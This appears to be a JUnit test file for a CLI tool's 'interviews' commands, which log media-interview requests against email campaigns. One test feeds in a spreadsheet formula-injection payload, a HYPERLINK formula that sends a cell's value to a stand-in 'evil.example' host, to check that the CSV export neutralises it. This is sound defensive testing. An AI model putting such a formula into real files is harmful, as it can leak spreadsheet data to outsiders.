package dev.herald.cli;

import static dev.herald.testing.TestFiles.assertContains;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.herald.interviews.InterviewLog;
import dev.herald.journal.Journal;
import dev.herald.journal.JournalEntry;
import dev.herald.journal.Outcome;
import dev.herald.testing.CliRun;
import dev.herald.testing.Samples;
import dev.herald.testing.TestFiles;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code herald interviews add, update, list} on the sample working folder. */
class InterviewsCommandTest {
  @TempDir Path dir;

  private static final String CAMPAIGN = Samples.CAMPAIGN;
  private static final String SCHROEDER = "s.schroeder@ostsee-wirtschaft.example";

  private CliRun herald;

  @BeforeEach
  void sample() {
    Samples.copyTo(dir);
    herald = CliRun.in(dir);
    // the campaigns that were sent: interviews add refuses any other without --new-campaign
    try (Journal journal = Journal.open(dir.resolve("logs/sends.csv"))) {
      for (String campaign : List.of(CAMPAIGN, "autumn-briefing")) {
        journal.appendDurably(
            new JournalEntry(
                CliRun.NOW, campaign, SCHROEDER, Outcome.SENT, "250 OK", "<" + campaign + "@x>"));
      }
    }
  }

  @Test
  void aCampaignThatWasNeverSentIsRefusedWithTheClosestKnownOne() {
    CliRun.Result typo =
        herald.run(
            "interviews", "add", "--campaign", "podlaskie-digitalization", "--email", SCHROEDER);

    assertEquals(2, typo.exitCode(), typo::toString);
    assertContains(typo.err(), "--campaign podlaskie-digitalization: no such campaign in ");
    assertContains(typo.err(), "(did you mean " + CAMPAIGN + "?)");
    assertContains(typo.err(), "--new-campaign");
    assertFalse(Files.exists(dir.resolve("logs/interviews.csv")));

    CliRun.Result nothingClose =
        herald.run("interviews", "add", "--campaign", "no-such-campaign", "--email", SCHROEDER);
    assertEquals(2, nothingClose.exitCode(), nothingClose::toString);
    assertFalse(nothingClose.err().contains("did you mean"), nothingClose::toString);

    ok("interviews", "add", "--campaign", "spring-launch", "--new-campaign", "--email", SCHROEDER);
    // once logged, the campaign is known to the log
    ok("interviews", "add", "--campaign", "spring-launch", "--email", "c@d.example");
    assertEquals(2, new InterviewLog(dir.resolve("logs/interviews.csv")).read().size());
  }

  @Test
  void idsAreNeverIssuedTwiceEvenWhenRowsAreDeletedByHand() throws Exception {
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", SCHROEDER);
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", "c@d.example");
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", "e@f.example");
    Path log = dir.resolve("logs/interviews.csv");
    // a person deletes the last two rows, then the last remaining one, in a spreadsheet
    List<String> lines = new ArrayList<>(TestFiles.read(log).lines().toList());
    TestFiles.write(dir, "logs/interviews.csv", lines.get(0) + "\n" + lines.get(1) + "\n");
    assertContains(
        ok("interviews", "add", "--campaign", CAMPAIGN, "--email", "g@h.example").out(),
        "Logged I0004: ");
    TestFiles.write(dir, "logs/interviews.csv", lines.get(0) + "\n");
    assertContains(
        ok("interviews", "add", "--campaign", CAMPAIGN, "--email", "g@h.example").out(),
        "Logged I0005: ");
    // the whole log deleted
    Files.delete(log);
    assertContains(
        ok("interviews", "add", "--campaign", CAMPAIGN, "--email", "i@j.example").out(),
        "Logged I0006: ");

    // a record that is not an id is refused, not silently restarted at I0001
    TestFiles.write(dir, "logs/interviews.last-id", "garbage\n");
    CliRun.Result refused =
        herald.run("interviews", "add", "--campaign", CAMPAIGN, "--email", "k@l.example");
    assertEquals(2, refused.exitCode(), refused::toString);
    assertContains(refused.err(), "interviews.last-id:1: 'garbage' is not an interview id");
  }

  private CliRun.Result ok(String... args) {
    CliRun.Result r = herald.run(args);
    assertEquals(0, r.exitCode(), r::toString);
    return r;
  }

  @Test
  void addUpdateAndListRoundTrip() {
    CliRun.Result added =
        ok(
            "interviews",
            "add",
            "--campaign",
            CAMPAIGN,
            "--email",
            "S.Schroeder@Ostsee-Wirtschaft.example",
            "--topic",
            "InfoTech cluster and remote workers");

    assertEquals(
        "Logged I0001: Sabine Schröder <S.Schroeder@Ostsee-Wirtschaft.example>, campaign "
            + CAMPAIGN
            + " (requested, by phone) in "
            + dir.resolve("logs/interviews.csv")
            + ".\n",
        added.out());

    ok(
        "interviews",
        "add",
        "--campaign",
        CAMPAIGN,
        "--email",
        "editor@unknown-outlet.example",
        "--outlet",
        "Radio Nowhere",
        "--source",
        "manual",
        "--when",
        "2026-12-03T14:30+01:00");

    CliRun.Result updated =
        ok(
            "interviews",
            "update",
            "I0001",
            "--status",
            "scheduled",
            "--when",
            "2026-12-04T10:00:00+01:00",
            "--note",
            "Zoom, 30 minutes");

    assertContains(updated.out(), "Updated I0001: scheduled, 2026-12-04T10:00:00+01:00");

    assertEquals(
        "id,logged_at,campaign,email,name,outlet,topic,status,when,source,message_id,note,"
            + "reply_from,forwarded_by\n"
            + "I0001,2026-11-27T10:00:00Z,podlaskie-digitalisation,"
            + "S.Schroeder@Ostsee-Wirtschaft.example,Sabine Schröder,Ostsee Wirtschaftsblatt,"
            + "InfoTech cluster and remote workers,scheduled,2026-12-04T10:00:00+01:00,phone,,"
            + "\"2026-11-27: Zoom, 30 minutes\",,\n"
            + "I0002,2026-11-27T10:00:00Z,podlaskie-digitalisation,editor@unknown-outlet.example,,"
            + "Radio Nowhere,,requested,2026-12-03T14:30+01:00,manual,,,,\n",
        TestFiles.read(dir.resolve("logs/interviews.csv")));

    String table = ok("interviews", "list").out();
    assertContains(table, "ID     STATUS     WHEN");
    assertTrue(
        table
            .lines()
            .anyMatch(
                l ->
                    l.startsWith("I0001  scheduled  2026-12-04T10:00:00+01:00  " + CAMPAIGN)
                        && l.contains("Sabine Schröder <S.Schroeder@Ostsee-Wirtschaft.example>")
                        && l.endsWith("phone   InfoTech cluster and remote workers")),
        table);

    assertEquals(
        TestFiles.read(dir.resolve("logs/interviews.csv")),
        ok("interviews", "list", "--format", "csv").out());
  }

  @Test
  void aNoteIsAddedAfterTheEarlierOneWithTheDateAndAnEmptyOneClears() {
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", SCHROEDER, "--note", "by phone");
    ok("interviews", "update", "I0001", "--note", "Zoom, 30 minutes");
    CliRun.in(dir)
        .clock(java.time.Clock.fixed(CliRun.NOW.plusSeconds(3 * 86_400), java.time.ZoneOffset.UTC))
        .run("interviews", "update", "I0001", "--note", "moved to Friday");

    assertEquals(
        "by phone; 2026-11-27: Zoom, 30 minutes; 2026-11-30: moved to Friday",
        new InterviewLog(dir.resolve("logs/interviews.csv")).read().get(0).note());

    ok("interviews", "update", "I0001", "--note", "");
    assertEquals("", new InterviewLog(dir.resolve("logs/interviews.csv")).read().get(0).note());
  }

  @Test
  void addAndUpdateKeepTheLogsPermissions() throws Exception {
    Path log = dir.resolve("logs/interviews.csv");
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", SCHROEDER);
    Files.setPosixFilePermissions(log, PosixFilePermissions.fromString("rw-rw-r--"));

    ok("interviews", "update", "I0001", "--status", "scheduled");
    assertEquals("rw-rw-r--", PosixFilePermissions.toString(Files.getPosixFilePermissions(log)));

    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", "c@d.example");
    assertEquals("rw-rw-r--", PosixFilePermissions.toString(Files.getPosixFilePermissions(log)));
    assertEquals(2, new InterviewLog(log).read().size());
  }

  @Test
  void listFiltersByCampaign() {
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", SCHROEDER);
    ok("interviews", "add", "--campaign", "autumn-briefing", "--email", SCHROEDER);

    String out = ok("interviews", "list", "--campaign", "autumn-briefing").out();

    assertContains(out, "I0002");
    assertFalse(out.contains("I0001"), out);
    assertContains(
        ok("interviews", "list", "--campaign", "none-such").out(),
        "No interview requests for campaign none-such in ");
  }

  @Test
  void theCsvExportNeutralisesFormulasAndReadsThemBack() throws Exception {
    String hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", SCHROEDER, "--note", hostile);
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", "a@b.example", "--topic", "@SUM");
    ok(
        "interviews",
        "add",
        "--campaign",
        CAMPAIGN,
        "--email",
        "c@d.example",
        "--topic",
        "-1+1",
        "--note",
        "'quoted already");

    String csv = ok("interviews", "list", "--format", "csv").out();
    List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();

    assertEquals("note", header(csv, 11));
    assertEquals("'" + hostile, records.get(1).get(11));
    assertEquals("'@SUM", records.get(2).get(6));
    assertEquals("'-1+1", records.get(3).get(6));
    assertEquals("''quoted already", records.get(3).get(11));
    for (CSVRecord record : records) {
      for (String cell : record) {
        assertFalse(
            !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
            () -> "a cell a spreadsheet would run: " + cell);
      }
    }
    // The log is the same file; herald reads every value back as it was given.
    String json = ok("interviews", "list", "--format", "json").out();
    assertContains(
        json, "\"note\": \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"click\\\")\"");
    assertContains(json, "\"topic\": \"@SUM\"");
    assertContains(json, "\"note\": \"'quoted already\"");
  }

  private static String header(String csv, int column) {
    return csv.lines().findFirst().orElseThrow().split(",")[column];
  }

  @Test
  void listJsonIsAnArrayOfObjectsKeyedByTheCsvHeader() {
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", SCHROEDER);
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", "c@d.example", "--note", "a\nb");

    String json = ok("interviews", "list", "--format", "json").out();
    String header = ok("interviews", "list", "--format", "csv").out().lines().findFirst().get();

    assertTrue(json.startsWith("[\n  {\n"), json);
    assertTrue(json.endsWith("}\n]\n"), json);
    List<String> keys = new ArrayList<>();
    Matcher m = Pattern.compile("(?m)^    \"([a-z_]+)\": ").matcher(json);
    while (m.find()) {
      keys.add(m.group(1));
    }
    assertEquals(InterviewLog.COLUMNS, List.of(header.split(",")));
    List<String> twice = new ArrayList<>(InterviewLog.COLUMNS);
    twice.addAll(InterviewLog.COLUMNS);
    assertEquals(twice, keys);
    assertContains(json, "\"note\": \"a\\nb\"");
  }

  @Test
  void anEmptyLogSaysSo() {
    CliRun.Result r = ok("interviews", "list");

    assertContains(r.out(), "No interview requests in ");
    assertEquals("[]\n", ok("interviews", "list", "--format", "json").out());
    assertEquals(
        String.join(",", InterviewLog.COLUMNS) + "\n",
        ok("interviews", "list", "--format", "csv").out());
    assertFalse(Files.exists(dir.resolve("logs/interviews.csv")));
  }

  @Test
  void everyCommandExplainsItself() {
    for (List<String> command :
        List.of(
            List.of("interviews"),
            List.of("interviews", "add"),
            List.of("interviews", "update"),
            List.of("interviews", "list"),
            List.of("interviews", "fetch"),
            List.of("report"))) {
      List<String> args = new ArrayList<>(command);
      args.add("--help");
      CliRun.Result r = herald.run(args.toArray(String[]::new));
      assertEquals(0, r.exitCode(), r::toString);
      assertContains(r.out(), "Usage: herald " + String.join(" ", command));
    }
  }

  // ----- errors: exit 2, the log untouched -----

  private void fails(String expected, String... args) {
    String before =
        Files.exists(dir.resolve("logs/interviews.csv"))
            ? TestFiles.read(dir.resolve("logs/interviews.csv"))
            : null;
    CliRun.Result r = herald.run(args);
    assertEquals(2, r.exitCode(), r::toString);
    assertContains(r.err(), expected);
    assertFalse(r.err().contains("Exception"), r::toString);
    String after =
        Files.exists(dir.resolve("logs/interviews.csv"))
            ? TestFiles.read(dir.resolve("logs/interviews.csv"))
            : null;
    assertEquals(before, after);
  }

  @Test
  void anUnknownIdIsNamed() {
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", SCHROEDER);

    fails(
        "herald: no interview I0042 in " + dir.resolve("logs/interviews.csv"),
        "interviews",
        "update",
        "I0042",
        "--status",
        "done");
    fails("its ids run from I0001 to I0001", "interviews", "update", "I0042", "--note", "x");
  }

  @Test
  void anInvalidStatusListsTheValidOnes() {
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", SCHROEDER);

    fails(
        "--status 'confirmed' is not one of requested, scheduled, done, declined",
        "interviews",
        "update",
        "I0001",
        "--status",
        "confirmed");
    fails(
        "--status 'maybe' is not one of requested, scheduled, done, declined",
        "interviews",
        "add",
        "--campaign",
        CAMPAIGN,
        "--email",
        SCHROEDER,
        "--status",
        "maybe");
  }

  @Test
  void aWhenThatIsNotIso8601IsRefused() {
    ok("interviews", "add", "--campaign", CAMPAIGN, "--email", SCHROEDER);

    for (String when :
        List.of("next Tuesday", "03/12/2026 14:30", "2026-12-03 14:30", "2026-13-01")) {
      fails(
          "--when '" + when + "' is not an ISO-8601 date and time",
          "interviews",
          "add",
          "--campaign",
          CAMPAIGN,
          "--email",
          SCHROEDER,
          "--when",
          when);
      fails(
          "--when '" + when + "' is not an ISO-8601 date and time",
          "interviews",
          "update",
          "I0001",
          "--when",
          when);
    }
  }

  @Test
  void otherBadInputIsRefused() {
    fails(
        "--email: 'not-an-address' is not an email address: it has no @",
        "interviews",
        "add",
        "--campaign",
        CAMPAIGN,
        "--email",
        "not-an-address");
    fails(
        "--source 'fax' is not one of reply, link, phone, manual",
        "interviews",
        "add",
        "--campaign",
        CAMPAIGN,
        "--email",
        SCHROEDER,
        "--source",
        "fax");
    fails(
        "--campaign must not be empty",
        "interviews",
        "add",
        "--campaign",
        " ",
        "--email",
        SCHROEDER);
    fails("nothing to change for I0001", "interviews", "update", "I0001");
    fails("--format takes table, csv or json, not 'xml'", "interviews", "list", "--format", "xml");
    fails(
        "no such file (--contacts)",
        "interviews",
        "add",
        "--campaign",
        CAMPAIGN,
        "--email",
        SCHROEDER,
        "--contacts",
        "lists/missing.csv");
    fails("Missing required option: '--email=EMAIL'", "interviews", "add", "--campaign", "x");
  }

  @Test
  void aDamagedLogIsNamedByLine() {
    TestFiles.write(
        dir,
        "logs/interviews.csv",
        String.join(",", InterviewLog.COLUMNS)
            + "\n"
            + "I0001,2026-11-27T10:00:00Z,c,a@b.example,,,,pending,,phone,,,,\n");

    fails(
        "logs/interviews.csv:2: status 'pending' is not one of requested, scheduled, done,"
            + " declined",
        "interviews",
        "list");
  }
}
